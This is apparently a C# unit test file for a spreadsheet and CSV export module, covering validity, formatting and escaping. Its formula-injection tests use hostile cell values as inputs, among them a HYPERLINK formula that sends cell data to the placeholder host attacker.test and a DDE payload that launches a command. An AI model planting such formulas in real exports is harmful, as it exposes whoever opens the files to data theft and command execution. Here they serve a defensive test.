using System.IO.Compression;
using System.Xml.Linq;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Isop.Web;

namespace Isop.Tests.Web;

/// <summary>The XLSX writer and CSV cells of the exports, read back by the Open XML SDK and by XDocument.</summary>
public sealed class ExportFileTests
{
    private static MemoryStream Workbook(IReadOnlyList<string> header, params object?[][] rows)
    {
        var stream = new MemoryStream();
        using (var writer = new XlsxWriter(stream, "Listings [test]", header))
        {
            foreach (var row in rows) writer.AddRow(row);
            writer.Finish();
        }
        stream.Position = 0;
        return stream;
    }

    private static List<Cell> Cells(SpreadsheetDocument document) =>
        [.. document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Cell>()];

    private static string? Text(Cell cell) => cell.DataType?.Value == CellValues.InlineString ? cell.InlineString!.Text!.Text : null;

    [Fact]
    public void A_workbook_has_a_bold_frozen_header_numbers_as_numbers_and_dates_as_dates_and_is_valid_Open_XML()
    {
        var at = new DateTimeOffset(2026, 11, 3, 14, 5, 9, TimeSpan.FromHours(9));
        using var stream = Workbook(["Listing", "Seeders", "Confidence", "First seen (UTC)", "Nothing", "Monitored"],
            ["사랑의 불시착 S01E03 1080p", 42, 0.875, at, null, true],
            ["Queen.of.Tears.E01", 7L, 1.0, at.AddDays(1), null, false]);
        using var document = SpreadsheetDocument.Open(stream, false);

        var errors = new OpenXmlValidator().Validate(document, TestContext.Current.CancellationToken).Select(e => $"{e.Path?.XPath}: {e.Description}").ToList();
        Assert.Empty(errors);

        var sheet = document.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>().Single();
        Assert.Equal("Listings _test_", sheet.Name!.Value);
        var pane = document.WorkbookPart.WorksheetParts.Single().Worksheet.Descendants<Pane>().Single();
        Assert.Equal(PaneStateValues.Frozen, pane.State!.Value);
        Assert.Equal(1, pane.VerticalSplit!.Value);
        Assert.Equal("A2", pane.TopLeftCell!.Value);

        var cells = Cells(document).ToDictionary(c => c.CellReference!.Value!);
        var styles = document.WorkbookPart.WorkbookStylesPart!.Stylesheet;
        var formats = styles.CellFormats!.Elements<CellFormat>().ToList();
        var fonts = styles.Fonts!.Elements<Font>().ToList();
        Assert.Equal("Listing", Text(cells["A1"]));
        Assert.All(new[] { "A1", "B1", "C1", "D1", "E1", "F1" }, r => Assert.NotNull(fonts[(int)formats[(int)cells[r].StyleIndex!.Value].FontId!.Value].Bold));
        Assert.Null(cells["A2"].StyleIndex);

        Assert.Equal("사랑의 불시착 S01E03 1080p", Text(cells["A2"]));
        Assert.Null(cells["B2"].DataType);
        Assert.Equal("42", cells["B2"].CellValue!.Text);
        Assert.Equal("7", cells["B3"].CellValue!.Text);
        Assert.Equal(0.875, double.Parse(cells["C2"].CellValue!.Text, System.Globalization.CultureInfo.InvariantCulture));
        // A date is a number with a date format, in UTC.
        var date = formats[(int)cells["D2"].StyleIndex!.Value];
        var format = styles.NumberingFormats!.Elements<NumberingFormat>().Single(f => f.NumberFormatId!.Value == date.NumberFormatId!.Value);
        Assert.Equal("yyyy\\-mm\\-dd\\ hh:mm:ss", format.FormatCode!.Value);
        Assert.Equal(at.UtcDateTime, DateTime.FromOADate(double.Parse(cells["D2"].CellValue!.Text, System.Globalization.CultureInfo.InvariantCulture)), TimeSpan.FromMilliseconds(1));
        Assert.False(cells.ContainsKey("E2"));
        Assert.Equal(CellValues.Boolean, cells["F2"].DataType!.Value);
        Assert.Equal("1", cells["F2"].CellValue!.Text);
        Assert.Equal("0", cells["F3"].CellValue!.Text);
    }

    [Theory]
    [InlineData("=1+2")]
    [InlineData("=HYPERLINK(\"http://attacker.test/?\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+2")]
    [InlineData("\r=1+2")]
    public void Text_that_looks_like_a_formula_is_stored_as_that_text_and_never_as_a_formula(string value)
    {
        using var stream = Workbook(["Listing"], [value]);
        using (var document = SpreadsheetDocument.Open(stream, false))
        {
            Assert.Empty(document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<CellFormula>());
            var cell = Cells(document).Single(c => c.CellReference == "A2");
            Assert.Equal(CellValues.InlineString, cell.DataType!.Value);
            Assert.Equal(value, Text(cell));
        }
        stream.Position = 0;
        using var zip = new ZipArchive(stream);
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        Assert.DoesNotContain("<f>", reader.ReadToEnd(), StringComparison.Ordinal);
    }

    [Fact]
    public void Control_characters_and_lone_surrogates_in_captured_text_do_not_break_the_file()
    {
        string[] values = ["a\u0001b\u0000c\u001F", "\uD800 lone high", "lone low \uDC00", "pair \uD83D\uDE00 kept", "\uFFFE\uFFFF", "tab\tline\nreturn\r"];
        using var stream = Workbook(["Text\u0007"], [.. values.Select(v => new object?[] { v })]);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Read, leaveOpen: true))
        {
            foreach (var entry in zip.Entries)
            {
                using var part = entry.Open();
                _ = XDocument.Load(part);
            }
        }
        stream.Position = 0;
        using var document = SpreadsheetDocument.Open(stream, false);
        var texts = Cells(document).Select(Text).ToList();
        Assert.Equal(["Text\uFFFD", "a\uFFFDb\uFFFDc\uFFFD", "\uFFFD lone high", "lone low \uFFFD", "pair \uD83D\uDE00 kept", "\uFFFD\uFFFD", "tab\tline\nreturn\r"], texts);
    }

    [Fact]
    public void Text_longer_than_a_cell_holds_is_cut_without_splitting_a_surrogate_pair()
    {
        var text = new string('x', XlsxWriter.MaxCellText - 1) + "\uD83D\uDE00tail";
        var safe = XlsxWriter.XmlSafe(text);
        Assert.Equal(XlsxWriter.MaxCellText - 1, safe.Length);
        Assert.Equal("abc", XlsxWriter.XmlSafe("abc"));
    }

    [Fact]
    public void Many_rows_are_written_as_they_come()
    {
        var stream = new MemoryStream();
        using (var writer = new XlsxWriter(stream, "Rows", ["N", "Text"]))
        {
            for (var i = 0; i < 30_000; i++) writer.AddRow([i, $"row {i}"]);
            writer.Finish();
            Assert.Equal(30_001, writer.Rows);
        }
        stream.Position = 0;
        using var document = SpreadsheetDocument.Open(stream, false);
        var rows = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().ToList();
        Assert.Equal(30_001, rows.Count);
        Assert.Equal(30_001u, rows[^1].RowIndex!.Value);
    }

    [Theory]
    [InlineData(0, "A")]
    [InlineData(25, "Z")]
    [InlineData(26, "AA")]
    [InlineData(701, "ZZ")]
    [InlineData(702, "AAA")]
    public void Columns_are_lettered_as_spreadsheets_letter_them(int index, string letters) => Assert.Equal(letters, XlsxWriter.Column(index));

    [Theory]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-1+1", "\"'-1+1\"")]
    [InlineData("@cmd", "\"'@cmd\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("Say \"hi\", then go", "\"Say \"\"hi\"\", then go\"")]
    [InlineData("사랑의 불시착", "\"사랑의 불시착\"")]
    public void A_CSV_text_cell_is_quoted_and_never_starts_a_formula(string value, string cell) => Assert.Equal(cell, Exports.CsvCell(value));

    [Fact]
    public void CSV_numbers_are_invariant_numbers_and_times_ISO_8601_in_UTC()
    {
        Assert.Equal("-3", Exports.CsvCell(-3));
        Assert.Equal("0.875", Exports.CsvCell(0.875));
        Assert.Equal("", Exports.CsvCell(null));
        Assert.Equal("", Exports.CsvCell(double.NaN));
        Assert.Equal("true", Exports.CsvCell(true));
        Assert.Equal("2026-11-03T05:05:09Z", Exports.CsvCell(new DateTimeOffset(2026, 11, 3, 14, 5, 9, TimeSpan.FromHours(9))));
        var read = CsvReader.Read(Csv.Row(["=1+2", "a,b"]), 10).Single().Cells;
        Assert.Equal(["'=1+2", "a,b"], read);
    }
}
